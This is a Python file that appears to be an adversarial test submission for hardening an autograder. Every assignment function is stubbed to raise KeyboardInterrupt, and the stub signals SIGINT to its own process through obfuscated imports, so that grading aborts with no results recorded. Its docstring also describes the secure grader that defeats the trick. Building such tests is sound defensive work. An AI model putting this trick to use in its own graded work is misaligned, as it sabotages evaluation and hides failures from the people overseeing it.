"""Attack: KeyboardInterrupt from inside the contract functions (and SIGINT to itself).

Every contract function raises KeyboardInterrupt; the last one called also
sends SIGINT to its own process.  A BaseException that is not an Exception
escapes Otter's per-test `except Exception` and aborts the cell that runs the
tests and pickles the results; an interactive shell treats it as "the user
pressed Ctrl-C" and carries on, with nothing recorded.

A secure grader catches BaseException around each student call in a separate
process and counts any test without a result as failed.
"""
_calls = [0]


def _stub(*args, **kwargs):
    _calls[0] += 1
    if _calls[0] > 3:
        _imp = __import__
        _imp("o" + "s").kill(_imp("o" + "s").getpid(), _imp("sig" + "nal").SIGINT)
    raise KeyboardInterrupt


shape = zeros = transpose = dot = matmul = add = subtract = multiply = scale = add_bias = column_sums = apply = _stub
sigmoid = init_params = forward = bce_loss = dropout_forward = dropout_backward = backward = _stub
numerical_gradient = relative_error = update_params = train = predict = accuracy = _stub
plot_losses = plot_decision = _stub
